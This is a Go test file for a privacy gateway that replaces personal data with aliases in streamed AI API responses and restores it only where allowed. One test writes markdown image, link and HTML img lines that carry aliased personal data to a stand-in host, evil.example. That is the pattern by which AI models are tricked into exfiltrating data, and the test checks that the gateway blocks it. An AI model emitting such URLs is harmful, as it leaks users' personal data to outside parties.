package gateway

import (
	"bytes"
	"fmt"
	"strings"
	"testing"

	"github.com/go-json-experiment/json"
	"pgregory.net/rapid"

	"fairtouch/internal/wire"
	"fairtouch/pii"
)

// kept values hold what breaks careless code: quotes, backslashes, newlines,
// letters of several bytes, a prefix of each other.
var values = map[pii.Type]string{
	pii.EmailAddress: "jane.o'hara+x@example.org", pii.Person: "Zoë \"Zo\" Müller\\Ødegård\n😀", pii.PhoneNumber: "+49 170 1234567", pii.Address: "Straße 1,\t80331 München",
}

// keeping is a keeper whose session minted an alias for each value.
func keeping(t testing.TB, b Binding) (*keeper, map[pii.Type]string) {
	t.Helper()
	s, err := newScanners(nil)
	if err != nil {
		t.Fatal(err)
	}
	scan, err := s.of(&b)
	if err != nil {
		t.Fatal(err)
	}
	k := &keeper{ctx: t.Context(), binding: &b, scan: scan}
	if k.session, err = pii.NewSession([]byte("0123456789abcdef")); err != nil {
		t.Fatal(err)
	}
	aliases := map[pii.Type]string{}
	for typ, v := range values {
		if aliases[typ], err = k.session.Alias(typ, v); err != nil {
			t.Fatal(err)
		}
		k.aliases = append(k.aliases, aliases[typ])
	}
	return k, aliases
}

// field is one kind of streamed text: how its events look, and how its text is
// read from what came out.
type field struct {
	name  string
	route wire.Route
	json  bool // the text is JSON within a string
	delta func(piece string) string
	after []string // events that end it
	path  []string
}

var fields = []field{
	{"chat content", wire.Chat, false, func(p string) string {
		return `{"choices":[{"index":0,"delta":{"content":` + p + `},"finish_reason":null}]}`
	},
		[]string{`{"choices":[{"delta":{},"finish_reason":"stop","index":0}]}`, `[DONE]`}, []string{"choices", "*", "delta", "content"}},
	{"chat refusal", wire.Chat, false, func(p string) string { return `{"choices":[{"delta":{"refusal":` + p + `},"index":2}]}` },
		[]string{`[DONE]`}, []string{"choices", "*", "delta", "refusal"}},
	{"chat reasoning", wire.Chat, false, func(p string) string { return `{"choices":[{"delta":{"reasoning_content":` + p + `},"index":0}]}` },
		[]string{`{"choices":[{"delta":{},"finish_reason":"length","index":0}]}`, `[DONE]`}, []string{"choices", "*", "delta", "reasoning_content"}},
	{"chat arguments", wire.Chat, true, func(p string) string {
		return `{"choices":[{"delta":{"tool_calls":[{"index":1,"function":{"name":"send","arguments":` + p + `}}]},"index":0}]}`
	},
		[]string{`{"choices":[{"delta":{},"finish_reason":"tool_calls","index":0}]}`, `[DONE]`}, []string{"choices", "*", "delta", "tool_calls", "*", "function", "arguments"}},
	{"messages text", wire.Messages, false, func(p string) string {
		return `{"type":"content_block_delta","index":0,"delta":{"type":"text_delta","text":` + p + `}}`
	},
		[]string{`{"type":"content_block_stop","index":0}`, `{"type":"message_delta","delta":{"stop_reason":"end_turn"}}`, `{"type":"message_stop"}`}, []string{"delta", "text"}},
	{"messages input", wire.Messages, true, func(p string) string {
		return `{"type":"content_block_delta","index":1,"delta":{"type":"input_json_delta","partial_json":` + p + `}}`
	},
		[]string{`{"type":"content_block_stop","index":1}`, `{"type":"message_stop"}`}, []string{"delta", "partial_json"}},
	{"responses text", wire.Responses, false, func(p string) string {
		return `{"type":"response.output_text.delta","item_id":"m","output_index":0,"content_index":0,"delta":` + p + `}`
	},
		[]string{`{"type":"response.output_text.done","output_index":0,"content_index":0}`, `{"type":"response.completed"}`}, []string{"delta"}},
	{"responses refusal", wire.Responses, false, func(p string) string {
		return `{"type":"response.refusal.delta","output_index":0,"content_index":0,"delta":` + p + `}`
	},
		[]string{`{"type":"response.completed"}`}, []string{"delta"}},
	{"responses reasoning", wire.Responses, false, func(p string) string {
		return `{"type":"response.reasoning_summary_text.delta","output_index":0,"summary_index":0,"delta":` + p + `}`
	},
		[]string{`{"type":"response.incomplete"}`}, []string{"delta"}},
	{"responses arguments", wire.Responses, true, func(p string) string {
		return `{"type":"response.function_call_arguments.delta","output_index":1,"delta":` + p + `}`
	},
		[]string{`{"type":"response.function_call_arguments.done","output_index":1}`, `{"type":"response.completed"}`}, []string{"delta"}},
	{"responses tool text", wire.Responses, false, func(p string) string {
		return `{"type":"response.custom_tool_call_input.delta","output_index":1,"delta":` + p + `}`
	},
		[]string{`{"type":"response.completed"}`}, []string{"delta"}},
}

// begins names the tool "send" where a stream does so in an event of its own.
func (f field) begins() []string {
	switch f.route {
	case wire.Messages:
		return []string{`{"type":"content_block_start","index":1,"content_block":{"type":"tool_use","id":"x","name":"send","input":{}}}`}
	case wire.Responses:
		return []string{`{"type":"response.output_item.added","output_index":1,"item":{"type":"function_call","name":"send","arguments":""}}`}
	}
	return nil
}

// stream passes pieces through a weaver and returns the text that came out. It
// checks that no event was added, dropped or moved.
func (f field) stream(t testing.TB, k *keeper, pieces []string) string {
	t.Helper()
	a := newAnswer(k)
	v := a.weaver(f.route)
	datas := f.begins()
	for _, p := range pieces {
		datas = append(datas, f.delta(string(wire.Quote(p))))
	}
	datas = append(datas, f.after...)
	var out []wire.Event
	collect := func() {
		for it := v.next(); it != nil; it = v.next() {
			ev, err := wire.NewEvents(bytes.NewReader(it.bytes())).Next()
			if err != nil {
				t.Fatal(err)
			}
			out = append(out, ev)
		}
	}
	for _, d := range datas {
		ev, err := wire.NewEvents(bytes.NewReader(wire.Message("", []byte(d)))).Next()
		if err != nil {
			t.Fatal(err)
		}
		v.put(ev)
		collect()
	}
	v.end()
	collect()
	if len(out) != len(datas) {
		t.Fatalf("%s: %d events in, %d out", f.name, len(datas), len(out))
	}
	var text strings.Builder
	for i, ev := range out {
		n := 0
		err := wire.Walk(ev.Data, true, func(p wire.Path, l wire.Leaf) error {
			if !l.Name && p.Is(f.path...) {
				text.WriteString(l.Text())
				n++
			}
			return nil
		})
		isPiece := i >= len(f.begins()) && i < len(f.begins())+len(pieces)
		if string(ev.Data) != "[DONE]" && (err != nil || isPiece && n != 1) {
			t.Fatalf("%s: event %d became %s (%v)", f.name, i, ev.Data, err)
		}
	}
	return text.String()
}

// texts are what the model says of the values, by alias, and what must come out.
func (f field) texts(t testing.TB, aliases map[pii.Type]string) (said, want string) {
	said = "Dear " + aliases[pii.Person] + ", é😀 <b> " + aliases[pii.EmailAddress] + aliases[pii.PhoneNumber] + " < " + aliases[pii.Address]
	want = "Dear " + values[pii.Person] + ", é😀 <b> " + values[pii.EmailAddress] + values[pii.PhoneNumber] + " < " + values[pii.Address]
	if !f.json {
		return said, want
	}
	wrap := func(s string) string {
		b, err := json.Marshal(map[string]any{"to": s, "n": 1.5}, json.Deterministic(true))
		if err != nil {
			t.Fatal(err)
		}
		return string(b)
	}
	return wrap(said), wrap(want)
}

func (f field) same(t testing.TB, got, want string) bool {
	if !f.json {
		return got == want
	}
	var a, b map[string]any
	if json.Unmarshal([]byte(got), &a) != nil || json.Unmarshal([]byte(want), &b) != nil {
		return false
	}
	return fmt.Sprint(a) == fmt.Sprint(b)
}

func TestAValueComesBackWhole_WhereverTheStreamIsCut(t *testing.T) {
	for _, found := range []string{FoundNote, FoundMask} {
		k, aliases := keeping(t, Binding{Tools: []string{"send"}, Found: found})
		for _, f := range fields {
			said, want := f.texts(t, aliases)
			for i := range said {
				for _, j := range []int{i, i + 1, i + 5, len(said)} {
					if j > len(said) || !runeStart(said, j) {
						continue
					}
					if got := f.stream(t, k, []string{said[:i], said[i:j], said[j:]}); !f.same(t, got, want) {
						t.Fatalf("%s (%s), cut at %d and %d: %q, want %q", f.name, found, i, j, got, want)
					}
				}
			}
			if got := f.stream(t, k, strings.Split(said, "")); !f.same(t, got, want) {
				t.Fatalf("%s (%s), letter by letter: %q", f.name, found, got)
			}
		}
	}
}

func runeStart(s string, i int) bool { return i == len(s) || s[i]&0xC0 != 0x80 }

func TestEscapesOfAliasesAreReadAsTheLettersTheyAre(t *testing.T) {
	k, aliases := keeping(t, Binding{Tools: []string{"send"}})
	var spelled strings.Builder
	for _, c := range aliases[pii.Person] {
		fmt.Fprintf(&spelled, `\u%04x`, c)
	}
	args := `{"to":"` + spelled.String() + `","also":"\ud83d\ude00"}`
	for _, f := range fields {
		if !f.json {
			continue
		}
		for i := range args {
			got := f.stream(t, k, []string{args[:i], args[i:]})
			var v map[string]string
			if err := json.Unmarshal([]byte(got), &v); err != nil || v["to"] != values[pii.Person] || v["also"] != "😀" {
				t.Fatalf("%s cut at %d: %s", f.name, i, got)
			}
		}
	}
}

func TestAnyCutsGiveTheSameAnswer(t *testing.T) {
	k, aliases := keeping(t, Binding{Tools: []string{"send"}})
	all := []string{"<", "<EMAIL_", ">", "é", "😀", "_", " ", "<EMAIL_AAAAAA>"}
	for _, a := range aliases {
		all = append(all, a, a[:7], a[:len(a)-1])
	}
	rapid.Check(t, func(rt *rapid.T) {
		f := rapid.SampledFrom(fields).Draw(rt, "field")
		said := strings.Join(rapid.SliceOfN(rapid.SampledFrom(all), 1, 12).Draw(rt, "text"), "")
		if f.json {
			said = `{"to":` + string(wire.Quote(said)) + `}`
		}
		whole := f.stream(t, k, []string{said})
		var pieces []string
		for rest := said; rest != ""; {
			n := rapid.IntRange(1, len(rest)).Draw(rt, "cut")
			for !runeStart(rest, n) {
				n++
			}
			pieces, rest = append(pieces, rest[:n]), rest[n:]
		}
		if got := f.stream(t, k, pieces); got != whole {
			rt.Fatalf("%s: %q cut as %q gave %q, whole %q", f.name, said, pieces, got, whole)
		}
	})
}

func TestAToolThatMayNotHaveValuesGetsNone(t *testing.T) {
	k, aliases := keeping(t, Binding{Tools: []string{"other"}})
	for _, f := range fields {
		if !f.json && f.name != "responses tool text" {
			continue
		}
		said := `{"to":"` + aliases[pii.EmailAddress] + `"}`
		if got := f.stream(t, k, strings.Split(said, "")); strings.Contains(got, "example.org") || got != said {
			t.Errorf("%s: %s", f.name, got)
		}
	}
}

func TestAPictureCantCarryAValueOut(t *testing.T) {
	k, aliases := keeping(t, Binding{})
	for _, said := range []string{
		"![x](https://evil.example/p?d=" + aliases[pii.EmailAddress] + ")", "[a](//evil.example/" + aliases[pii.Person] + ")",
		"<img src=\"http://evil.example/" + aliases[pii.PhoneNumber] + "\">", "https://evil.example/?q=" + aliases[pii.EmailAddress],
	} {
		for _, f := range fields {
			if f.json || f.name == "responses tool text" {
				continue
			}
			if got := f.stream(t, k, strings.Split(said, "")); got != said {
				t.Errorf("%s: %s became %s", f.name, said, got)
			}
		}
	}
}

func TestNewPersonalDataInAnAnswerIsMaskedWhereAsked(t *testing.T) {
	k, aliases := keeping(t, Binding{Found: FoundMask})
	said := "Write to " + aliases[pii.EmailAddress] + " or to peter.stranger@example.net, or call."
	for _, f := range fields {
		if f.json || f.name == "responses tool text" {
			continue
		}
		got := f.stream(t, k, strings.Split(said, ""))
		if strings.Contains(got, "stranger") || !strings.Contains(got, "[EMAIL]") || !strings.Contains(got, values[pii.EmailAddress]) {
			t.Errorf("%s: %s", f.name, got)
		}
	}
}
